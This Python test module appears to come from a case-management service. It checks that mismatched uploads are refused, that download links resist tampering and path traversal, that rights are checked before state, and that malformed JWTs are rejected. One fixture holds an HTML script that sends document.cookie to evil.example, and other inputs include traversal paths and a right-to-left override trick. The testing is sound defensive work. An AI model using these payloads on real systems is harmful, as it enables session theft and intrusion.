"""Smaller holes, on the local stack: uploads whose bytes are not their declared type, named downloads (staff and
portal) through the download origin with nosniff, and what it refuses, migration by a non-admin, rights checked
before state, and tokens whose `aud` is a list."""

import json
import time
import urllib.parse
import uuid
from datetime import timedelta
from typing import Any, cast

import botocore.auth
import httpx
import jwt
import pytest
from caseline_common.resources import ANCHORS_BUCKET, DOCUMENTS_BUCKET, TenantResourceNames
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey

from caseline.local.downloads import DOWNLOADS_PREFIX
from caseline.local.idp import DEV_CLIENT_ID
from caseline.local.provision import LOCAL_ACCOUNT_ID
from caseline.local.stack import LocalStack

from .support import assert_problem, header, pointers, wait_until
from .test_portal_access import Browser, Claim, issue

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
HTML = b"<!DOCTYPE html><html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 40
CSV = "name,amount\nLena Fischer,86.40\nJosé Müller,12.00\n".encode()


def template(key: str) -> dict[str, Any]:
    return {
        "key": key,
        "name": "Expense claim",
        "stages": [{"key": "open", "name": "Open"}, {"key": "done", "name": "Done", "next": []}],
        "document_types": [
            {
                "key": "receipt",
                "name": "Receipt",
                "content_types": ["application/pdf", "image/png"],
                "max_size_bytes": 4096,
                "external": True,
                "uploader_roles": ["handler"],
            },
            {"key": "statement", "name": "Statement", "content_types": ["text/csv"], "max_size_bytes": 4096},
        ],
        "roles": [
            {
                "key": "handler",
                "name": "Handler",
                "permissions": [
                    "case.view",
                    "case.transition",
                    "case.close",
                    "participant.manage",
                    "document.upload",
                    "document.view",
                ],
                "fields": {"*": "edit"},
            },
            {"key": "lead", "name": "Lead", "permissions": ["case.view", "case.reopen"], "fields": {"*": "view"}},
            {
                "key": "client",
                "name": "Client",
                "kind": "external",
                "permissions": ["case.view", "document.view", "comment.external"],
                "fields": {},
            },
        ],
        "owner_role": "handler",
    }


def token(stack: LocalStack, name: str | None) -> str:
    """An admin when `name` is None, else a staff member (not an admin) whose subject is dev-<name>."""
    return stack.staff_token() if name is None else stack.staff_token(admin=False, email=f"{name}@demo.caseline.local")


def call(
    stack: LocalStack, method: str, path: str, body: Any = None, *, as_: str | None = None
) -> tuple[int, dict[str, str], bytes]:
    headers = {"Authorization": f"Bearer {token(stack, as_)}"}
    payload = None
    if body is not None:
        headers["Content-Type"] = "application/json"
        payload = json.dumps(body).encode()
    status, reply_headers, raw = stack.api.handle(method, path, headers, payload)
    return status, dict(reply_headers), raw


def ok(response: tuple[int, dict[str, str], bytes], status: int = 200) -> Any:
    assert response[0] == status, response
    return json.loads(response[2])


@pytest.fixture(scope="module")
def key(stack: LocalStack) -> str:
    key = f"content-{uuid.uuid4().hex[:8]}"
    ok(call(stack, "POST", "/templates", template(key)), 201)
    return key


def open_case(stack: LocalStack, key: str) -> dict[str, Any]:
    """A case owned by alex, a handler; blake joins as lead."""
    case = ok(call(stack, "POST", "/cases", {"template_key": key, "title": "Train to Leeds"}, as_="alex"), 201)
    lead = {"kind": "internal", "role": "lead", "user_id": "dev-blake"}
    joined: dict[str, Any] = ok(call(stack, "POST", f"/cases/{case['id']}/participants", lead, as_="alex"))
    return joined


def upload(
    stack: LocalStack, case_id: str, content: bytes, *, kind: str, content_type: str, filename: str
) -> dict[str, Any]:
    """A presigned POST into quarantine, as a browser would send it; the upload is not confirmed yet."""
    form = {"type": kind, "filename": filename, "content_type": content_type, "size": len(content)}
    target: dict[str, Any] = ok(call(stack, "POST", f"/cases/{case_id}/documents/uploads", form, as_="alex"), 201)
    posted = httpx.post(target["url"], data=target["fields"], files={"file": (filename, content, content_type)})
    assert posted.status_code in (200, 201, 204), posted.text
    return target


def confirm(stack: LocalStack, case_id: str, target: dict[str, Any]) -> tuple[int, dict[str, str], bytes]:
    return call(stack, "POST", f"/cases/{case_id}/documents/uploads/{target['upload_id']}/confirm", as_="alex")


def in_quarantine(stack: LocalStack, target: dict[str, Any]) -> bool:
    s3 = stack.aws.s3()
    bucket = next(each["Name"] for each in s3.list_buckets()["Buckets"] if "-documents-" in each["Name"])
    return bool(s3.list_objects_v2(Bucket=bucket, Prefix=target["fields"]["key"]).get("KeyCount"))


# Uploads


@pytest.mark.parametrize(
    ("content", "kind", "content_type"),
    [(HTML, "receipt", "application/pdf"), (HTML, "statement", "text/csv"), (PNG, "statement", "text/csv")],
    ids=["HTML as a PDF", "HTML as CSV", "an image as CSV"],
)
def test_a_file_that_is_not_its_declared_type_is_refused_and_removed(
    stack: LocalStack, key: str, content: bytes, kind: str, content_type: str
) -> None:
    case = open_case(stack, key)
    target = upload(stack, case["id"], content, kind=kind, content_type=content_type, filename="file.bin")
    assert in_quarantine(stack, target)

    problem = assert_problem(confirm(stack, case["id"], target), 422)
    assert pointers(problem) == {"/content_type"}
    assert content_type in problem["detail"]

    after = ok(call(stack, "GET", f"/cases/{case['id']}", as_="alex"))
    assert (after["documents"], after["version"]) == ([], case["version"]), "nothing was added to the case"
    assert not in_quarantine(stack, target), "the refused file is gone from quarantine"
    assert confirm(stack, case["id"], target)[0] == 404


def test_files_of_their_declared_type_are_added(stack: LocalStack, key: str) -> None:
    case = open_case(stack, key)
    receipt = upload(stack, case["id"], PDF, kind="receipt", content_type="application/pdf", filename="r.pdf")
    statement = upload(stack, case["id"], CSV, kind="statement", content_type="text/csv", filename="s.csv")
    ok(confirm(stack, case["id"], receipt))
    after = ok(confirm(stack, case["id"], statement))
    assert sorted(document["type"] for document in after["documents"]) == ["receipt", "statement"]


# Downloads

NAME = 'Résumé "final"; 2026.pdf'
DISPOSITION = (
    "attachment; filename=\"R_sum_ _final_; 2026.pdf\"; filename*=UTF-8''R%C3%A9sum%C3%A9%20%22final%22%3B%202026.pdf"
)


def assert_named_attachment(stack: LocalStack, url: str) -> None:
    """The link is the presigned GET on the download origin: S3 answers with the name and the checked content type
    the query asks for, and the origin adds nosniff, which S3 cannot."""
    assert url.startswith(f"{stack.url}{DOWNLOADS_PREFIX}/{documents_bucket(stack)}/cases/")
    query = urllib.parse.parse_qs(urllib.parse.urlsplit(url).query)
    assert query["response-content-disposition"] == [DISPOSITION]
    assert query["response-content-type"] == ["application/pdf"]
    answer = httpx.get(url)
    assert answer.status_code == 200
    assert answer.headers["Content-Disposition"] == DISPOSITION
    assert answer.headers["Content-Type"] == "application/pdf"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Referrer-Policy"] == "no-referrer"
    assert answer.content == PDF


def documents_bucket(stack: LocalStack) -> str:
    return TenantResourceNames(tenant_id=stack.options.tenant_id).bucket(DOCUMENTS_BUCKET, LOCAL_ACCOUNT_ID)


@pytest.fixture(scope="module")
def with_receipt(stack: LocalStack, key: str) -> dict[str, Any]:
    """A case with a receipt whose name needs encoding, and an external client."""
    case = open_case(stack, key)
    target = upload(stack, case["id"], PDF, kind="receipt", content_type="application/pdf", filename=NAME)
    ok(confirm(stack, case["id"], target))
    client = {"kind": "external", "role": "client", "name": "Cleo Client", "email": "cleo@example.org"}
    joined: dict[str, Any] = ok(call(stack, "POST", f"/cases/{case['id']}/participants", client, as_="alex"))
    return joined


def test_a_staff_download_is_a_named_attachment(stack: LocalStack, with_receipt: dict[str, Any]) -> None:
    link = ok(call(stack, "GET", f"/cases/{with_receipt['id']}/documents/receipt/versions/1", as_="alex"))
    assert link["filename"] == NAME
    assert_named_attachment(stack, link["url"])


def test_a_portal_download_is_a_named_attachment(stack: LocalStack, with_receipt: dict[str, Any]) -> None:
    client = next(p["id"] for p in with_receipt["participants"] if p["kind"] == "external")
    visitor = Browser(stack)
    visitor.enter(issue(stack, Claim(with_receipt["id"], with_receipt["title"], client)))
    found: dict[str, Any] = {}

    def redirected() -> bool:
        answer = visitor.get("/portal/documents/receipt/1")
        found["answer"] = answer
        return answer.status == 303

    wait_until(redirected, what="the portal to know the receipt")
    assert_named_attachment(stack, found["answer"].header("Location"))


def refused(answer: httpx.Response, code: str, status: int = 403) -> None:
    """What S3 answers a presigned GET it does not accept, with the origin's headers still on it."""
    assert answer.status_code == status
    assert f"<Code>{code}</Code>" in answer.text
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert PDF not in answer.content


def test_a_download_link_serves_only_what_it_was_signed_for(stack: LocalStack, key: str) -> None:
    case = open_case(stack, key)
    for filename in ("a.pdf", "b.pdf"):
        target = upload(stack, case["id"], PDF, kind="receipt", content_type="application/pdf", filename=filename)
        ok(confirm(stack, case["id"], target))
    first, second = (
        ok(call(stack, "GET", f"/cases/{case['id']}/documents/receipt/versions/{version}", as_="alex"))["url"]
        for version in (1, 2)
    )
    first_parts, second_parts = urllib.parse.urlsplit(first), urllib.parse.urlsplit(second)
    assert httpx.get(first).status_code == 200

    # another object's path, or another content type, under the first link's signature
    refused(httpx.get(first_parts._replace(path=second_parts.path).geturl()), "SignatureDoesNotMatch")
    as_html = first_parts.query.replace("response-content-type=application%2Fpdf", "response-content-type=text%2Fhtml")
    assert as_html != first_parts.query
    refused(httpx.get(first_parts._replace(query=as_html).geturl()), "SignatureDoesNotMatch")
    refused(httpx.get(first_parts._replace(query="").geturl()), "AccessDenied")

    # nothing but the documents bucket's objects: not another bucket, not the emulator's own API
    anchors = TenantResourceNames(tenant_id=stack.options.tenant_id).bucket(ANCHORS_BUCKET, LOCAL_ACCOUNT_ID)
    bucket = documents_bucket(stack)
    for path in (
        first_parts.path.replace(bucket, anchors),
        f"{DOWNLOADS_PREFIX}/moto-api/data.json",
        f"{DOWNLOADS_PREFIX}/{bucket}/../moto-api/data.json",
        f"{DOWNLOADS_PREFIX}/{bucket}/%2E%2E/moto-api/data.json",
    ):
        refused(httpx.get(first_parts._replace(path=path).geturl()), "AccessDenied")


def test_an_expired_download_link_is_refused(stack: LocalStack, key: str, monkeypatch: pytest.MonkeyPatch) -> None:
    case = open_case(stack, key)
    target = upload(stack, case["id"], PDF, kind="receipt", content_type="application/pdf", filename="late.pdf")
    ok(confirm(stack, case["id"], target))
    signed_now = botocore.auth.get_current_datetime  # type: ignore[attr-defined]  # there, but not in botocore-stubs
    monkeypatch.setattr(botocore.auth, "get_current_datetime", lambda: signed_now() - timedelta(minutes=6))
    link = ok(call(stack, "GET", f"/cases/{case['id']}/documents/receipt/versions/1", as_="alex"))
    monkeypatch.undo()
    answer = httpx.get(link["url"])
    refused(answer, "AccessDenied")
    assert "expired" in answer.text


def test_a_download_link_lasting_too_long_is_refused_not_dropped(stack: LocalStack, key: str) -> None:
    """S3 refuses an X-Amz-Expires that is not a whole number of seconds up to seven days before any signature check;
    one too large to be a time span must not drop the connection either."""
    case = open_case(stack, key)
    target = upload(stack, case["id"], PDF, kind="receipt", content_type="application/pdf", filename="long.pdf")
    ok(confirm(stack, case["id"], target))
    link = urllib.parse.urlsplit(
        ok(call(stack, "GET", f"/cases/{case['id']}/documents/receipt/versions/1", as_="alex"))["url"]
    )
    given = urllib.parse.parse_qsl(link.query, keep_blank_values=True)
    assert "X-Amz-Expires" in dict(given)
    for lifetime in ("100000000000000", "604801", "0", "-5", "soon"):
        query = urllib.parse.urlencode([(name, lifetime if name == "X-Amz-Expires" else v) for name, v in given])
        refused(httpx.get(link._replace(query=query).geturl()), "AuthorizationQueryParametersError", status=400)


def test_a_portal_message_with_a_bidi_override_is_refused_and_not_sent(
    stack: LocalStack, with_receipt: dict[str, Any]
) -> None:
    client = next(p["id"] for p in with_receipt["participants"] if p["kind"] == "external")
    visitor = Browser(stack)
    page = visitor.enter(issue(stack, Claim(with_receipt["id"], with_receipt["title"], client)))
    refused = visitor.post("/portal/messages", {"csrf": page.csrf, "body": "Please pay IBAN \u202e0987 6543"})
    assert refused.status == 422
    assert "U+202E" in refused.text
    sent = visitor.post("/portal/messages", {"csrf": page.csrf, "body": "Thank you,\r\nCleo"})
    assert sent.status == 303

    def arrived() -> list[str]:
        comments = ok(call(stack, "GET", f"/cases/{with_receipt['id']}/comments", as_="alex"))["items"]
        return [comment["body"] for comment in comments]

    wait_until(arrived, what="the portal message on the case")
    assert arrived() == ["Thank you,\nCleo"]


# Migration


def test_a_non_admin_migrating_gets_403_before_any_case_is_touched(stack: LocalStack, key: str) -> None:
    case = open_case(stack, key)
    ok(call(stack, "POST", f"/templates/{key}/versions", {"definition": template(key)}), 201)
    body = {"to_version": 2, "case_ids": [case["id"]]}

    problem = assert_problem(call(stack, "POST", f"/templates/{key}/migrations", body, as_="alex"), 403)
    assert problem["type"] == "urn:caseline:problem:forbidden"
    after = ok(call(stack, "GET", f"/cases/{case['id']}"))
    assert (after["template_version"], after["version"]) == (1, case["version"])

    assert_problem(call(stack, "POST", f"/templates/{key}/migrations", {**body, "to_version": 99}), 404)
    moved = ok(call(stack, "POST", f"/templates/{key}/migrations", body))
    assert [(each["case_id"], each["migrated"], each["version"]) for each in moved["results"]] == [
        (case["id"], True, 2)
    ]


# Rights before state


def test_a_caller_without_the_right_is_refused_whatever_state_the_case_is_in(stack: LocalStack, key: str) -> None:
    case = open_case(stack, key)
    reopen = f"/cases/{case['id']}/reopen"
    close = f"/cases/{case['id']}/close"
    why = {"reason": "Wrong amount"}

    # open: alex may not reopen (403, not "already open"); blake may, so blake hears the state
    assert_problem(call(stack, "POST", reopen, why, as_="alex"), 403)
    assert_problem(call(stack, "POST", reopen, why, as_="blake"), 409)
    assert_problem(call(stack, "POST", reopen, why, as_="carol"), 404)  # may not even see it

    ok(call(stack, "POST", f"/cases/{case['id']}/transitions", {"to": "done"}, as_="alex"))
    ok(call(stack, "POST", close, {}, as_="alex"))

    # closed: blake may not close (403, not "already closed"), nor upload; alex may not reopen
    assert_problem(call(stack, "POST", close, {}, as_="blake"), 403)
    form = {"type": "receipt", "filename": "r.pdf", "content_type": "application/pdf", "size": 10}
    assert_problem(call(stack, "POST", f"/cases/{case['id']}/documents/uploads", form, as_="blake"), 403)
    assert_problem(call(stack, "POST", reopen, why, as_="alex"), 403)
    assert ok(call(stack, "POST", reopen, why, as_="blake"))["status"] == "open"


# Tokens whose aud is a list


def signed(stack: LocalStack, **changes: Any) -> str:
    key = cast(
        RSAPrivateKey,  # the dev issuer's key is RSA
        serialization.load_pem_private_key(
            (stack.options.state_dir / "dev-signing-key.pem").read_bytes(), password=None
        ),
    )
    now = int(time.time())
    claims = {
        "sub": "dev-alex",
        "iss": stack.idp.issuer,
        "aud": stack.idp.client_id,
        "token_use": "id",
        "iat": now,
        "exp": now + 600,
        "cognito:groups": ["caseline-staff"],
        **changes,
    }
    return jwt.encode(claims, key, algorithm="RS256", headers={"kid": stack.idp.key_id})


OURS = DEV_CLIENT_ID  # the development issuer's app client


@pytest.mark.parametrize(
    ("changes", "status"),
    [
        ({"aud": [OURS]}, 200),
        ({"aud": [OURS, "someone-else"], "azp": OURS}, 401),
        ({"aud": []}, 401),
        ({"cognito:groups": "caseline-admins"}, 401),
        ({"exp": "tomorrow"}, 401),
    ],
    ids=["aud list of ours", "aud with a stranger", "empty aud", "groups as a string", "exp as a string"],
)
def test_tokens_of_odd_shapes_answer_401_problems(stack: LocalStack, changes: dict[str, Any], status: int) -> None:
    assert stack.idp.client_id == OURS
    response = stack.api.handle("GET", "/cases?limit=1", {"Authorization": f"Bearer {signed(stack, **changes)}"}, None)
    if status == 401:  # refused by the API's authorizer, with the services' own verifier (API Gateway's answer)
        assert assert_problem(response, 401)["detail"] == "A valid bearer token is required."
    else:
        assert response[0] == 200, response[2]
        assert header(response[1], "Content-Type") == "application/json"
